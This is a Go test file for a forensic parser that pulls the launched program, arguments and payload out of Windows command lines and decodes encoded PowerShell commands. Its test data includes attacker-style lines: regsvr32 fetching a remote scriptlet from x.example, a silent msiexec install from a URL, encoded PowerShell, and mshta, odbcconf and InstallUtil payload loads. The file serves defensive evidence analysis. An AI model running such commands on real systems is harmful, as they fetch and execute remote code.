package winpath

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/artifactdump/artifactdump/corpus/regf"
)

// TestBareHosts has programs as people type them: without folder and extension,
// so that the first extension in the line is the payload's.
func TestBareHosts(t *testing.T) {
	for _, tc := range []struct{ line, program, args, payload string }{
		{`powershell -File C:\t\a.ps1`, "powershell", `-File C:\t\a.ps1`, `C:\t\a.ps1`},
		{`pwsh -f C:\t\a.ps1 -Name x`, "pwsh", `-f C:\t\a.ps1 -Name x`, `C:\t\a.ps1`},
		{`rundll32 C:\x\y.dll,Start`, "rundll32", `C:\x\y.dll,Start`, `C:\x\y.dll`},
		{`RUNDLL32 shell32.dll,Control_RunDLL`, "RUNDLL32", `shell32.dll,Control_RunDLL`, `shell32.dll`},
		{`cmd /c C:\t\a.bat`, "cmd", `/c C:\t\a.bat`, `C:\t\a.bat`},
		{`wscript C:\t\a.vbs`, "wscript", `C:\t\a.vbs`, `C:\t\a.vbs`},
		{`mshta C:\t\a.hta`, "mshta", `C:\t\a.hta`, `C:\t\a.hta`},
		{`regsvr32 /s a.dll`, "regsvr32", `/s a.dll`, `a.dll`},
		{"msiexec\t/i a.msi", "msiexec", `/i a.msi`, `a.msi`},
		{`schtasks /run /tn a.exe`, "schtasks", `/run /tn a.exe`, ""},
		{`start "" C:\t\a.exe`, "start", `"" C:\t\a.exe`, ""},
		{`python C:\t\a.js`, "python", `C:\t\a.js`, ""},
		{`My Program.exe`, "My Program.exe", "", ""}, // two plain words
		{`powershell`, "powershell", "", ""},
		{`powershell `, "powershell", "", ""},
	} {
		got := ParseCommand(tc.line, nil)
		if got.Program != tc.program || got.Arguments != tc.args || got.Payload != tc.payload {
			t.Errorf("ParseCommand(%q) = %+v, want program %q, arguments %q, payload %q", tc.line, got, tc.program, tc.args, tc.payload)
		}
		// The evidence has no file of such a name: the answer is the same.
		if asked := ParseCommand(tc.line, func(string) bool { return false }); asked != got {
			t.Errorf("ParseCommand(%q) of evidence without the file = %+v, want %+v", tc.line, asked, got)
		}
	}
}

// TestShellCommand has the forms in which programs start cmd.exe. Explorer starts a
// batch file as cmd.exe /c ""PATH" "; system() and task schedulers quote the whole.
func TestShellCommand(t *testing.T) {
	encoded := base64.StdEncoding.EncodeToString(regf.UTF16("whoami"))
	for _, tc := range []struct{ args, payload, decoded string }{
		{`/c ""C:\Users\mira\a b.bat" "`, `C:\Users\mira\a b.bat`, ""},
		{`/c ""C:\t\a.bat" one "two three""`, `C:\t\a.bat`, ""},
		{`/c "C:\t\a.bat" 1`, `C:\t\a.bat`, ""},
		{`/C "C:\Program Files\A\a.exe" "b c"`, `C:\Program Files\A\a.exe`, ""},
		{`/c "powershell -nop -enc ` + encoded + `"`, "powershell", "whoami"},
		{`/s /c "powershell.exe -File "C:\t\a.ps1""`, "powershell.exe", ""},
		{`/c powershell -e ` + encoded, "powershell", "whoami"},
		{`/k C:/code/x.bat`, `C:/code/x.bat`, ""}, // the second /c is a folder
		{`/q /r a.cmd`, "a.cmd", ""},
		{`/v:on/ca.cmd`, "a.cmd", ""},
		{`/c "cd /d C:\t && a.exe"`, "cd", ""},
		{`/c`, "", ""},
		{`/c "`, "", ""},
		{`/c ""`, "", ""},
		{`/c """`, "", ""},
		{`/q`, "", ""},
		{``, "", ""},
	} {
		want := Command{Program: "cmd.exe", Arguments: tc.args, Payload: tc.payload, Decoded: tc.decoded}
		if got := ParseCommand("cmd.exe "+tc.args, nil); got != want {
			t.Errorf("ParseCommand(cmd.exe %s) = %+v, want %+v", tc.args, got, want)
		}
	}
}

// TestShellPeelsOnce wants a chain of shells to end at the second.
func TestShellPeelsOnce(t *testing.T) {
	line := strings.Repeat("cmd /c ", 10_000) + "a.exe"
	if got := ParseCommand(line, nil); got.Payload != "cmd" || got.Decoded != "" {
		t.Errorf("payload %q, decoded %q", got.Payload, got.Decoded)
	}
}

// TestHosts has what a program that runs others is told to run.
func TestHosts(t *testing.T) {
	for _, tc := range []struct{ line, payload string }{
		{`control.exe C:\t\a.cpl,@0,1`, `C:\t\a.cpl`},
		{`control "C:\t a\a.cpl"`, `C:\t a\a.cpl`},
		{`odbcconf.exe /a {REGSVR C:\t\a.dll}`, `C:\t\a.dll`},
		{`odbcconf /S /A {regsvr "C:\t a\a.dll"}`, `C:\t a\a.dll`},
		{`odbcconf -f a.rsp`, `a.rsp`},
		{`odbcconf /a {REGSVR`, `{REGSVR`},
		{`rundll32.exe "C:\t a\a.dll",Start`, `C:\t a\a.dll`},
		{`rundll32.exe C:\t\a.dll #1`, `C:\t\a.dll`},
		{`rundll32.exe`, ""},
		{`regsvr32.exe /s /n /u /i:http://x.example/a.sct scrobj.dll`, `scrobj.dll`},
		{`cscript.exe //E:jscript "C:\t a\a.txt"`, `C:\t a\a.txt`},
		{`msiexec.exe /qn /i https://x.example/a.msi`, `https://x.example/a.msi`},
		{`mshta.exe /`, ""},
		{`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /U C:\t\a.dll`, `C:\t\a.dll`},
		{`notepad.exe C:\t\a.txt`, ""},
	} {
		if got := ParseCommand(tc.line, nil); got.Payload != tc.payload {
			t.Errorf("ParseCommand(%q).Payload = %q, want %q", tc.line, got.Payload, tc.payload)
		}
	}
}

// TestPowerShellSwitches: PowerShell takes every beginning of a parameter's name that
// is long enough, in any case, after a hyphen, a slash or a typographical dash.
func TestPowerShellSwitches(t *testing.T) {
	const text = "Write-Host \u00e4\U0001F600"
	encoded := base64.StdEncoding.EncodeToString(regf.UTF16(text))
	for _, sw := range []string{"-e", "-E", "-ec", "-en", "-enc", "-EncodedC", "-EncodedCommand", "/enc", "\u2013enc", "\u2014e", "\u2015Enc", "--enc"} {
		if got := ParseCommand("powershell.exe -nop "+sw+" "+encoded, nil).Decoded; got != text {
			t.Errorf("%s: %q, want %q", sw, got, text)
		}
	}
	for _, args := range []string{"-ex Bypass", "-EncodedArguments " + encoded, "enc " + encoded, "Enc " + encoded, "-enc", "-f", "-c " + encoded} {
		if got := ParseCommand("powershell.exe "+args, nil); got.Decoded != "" || got.Payload != "" {
			t.Errorf("powershell.exe %s: %+v", args, got)
		}
	}
}

func TestDecodeCommand(t *testing.T) {
	for in, want := range map[string]string{
		"":             "",
		"A":            "",
		"AA==":         "", // one byte
		"AAAA":         "", // three bytes
		"dwA=":         "w",
		"dwA":          "w", // without padding, as typed
		"d\nwA=":       "w", // base64 has lines
		"PdgA3g==":     "\U0001F600",
		"PdhBAA==":     "\uFFFDA", // half a pair
		"not base64 !": "",
	} {
		if got := DecodeCommand(in); got != want {
			t.Errorf("DecodeCommand(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestFields(t *testing.T) {
	for in, want := range map[string]string{
		``:             "",
		"  \t ":        "",
		`a b`:          "a|b",
		`"a b" c`:      "a b|c",
		`a"b c"d`:      "ab cd",
		`"" x`:         "|x",
		`"open x`:      "open x",
		"ä\tö  ü":      "ä|ö|ü",
		`/f:"a b" "c"`: "/f:a b|c",
	} {
		if got := strings.Join(Fields(in), "|"); got != want {
			t.Errorf("Fields(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestParseCommandExists asks the evidence for each beginning, as Windows does.
func TestParseCommandExists(t *testing.T) {
	const line = `C:\Program Files\My App.exe Tool.exe /x`
	for _, tc := range []struct {
		there, program, args string
		guessed              bool
	}{
		{`C:\Program Files\My App.exe`, `C:\Program Files\My App.exe`, `Tool.exe /x`, false},
		{`C:\Program Files\My App.exe Tool.exe`, `C:\Program Files\My App.exe Tool.exe`, `/x`, false},
		{`C:\other.exe`, `C:\Program Files\My App.exe`, `Tool.exe /x`, true},
	} {
		var asked []string
		got := ParseCommand(line, func(p string) bool { asked = append(asked, p); return p == tc.there })
		if got.Program != tc.program || got.Arguments != tc.args || got.Guessed != tc.guessed {
			t.Errorf("with %s: %+v", tc.there, got)
		}
		if len(asked) == 0 || asked[0] != `C:\Program Files\My App.exe` {
			t.Errorf("with %s: asked for %q", tc.there, asked)
		}
	}
}
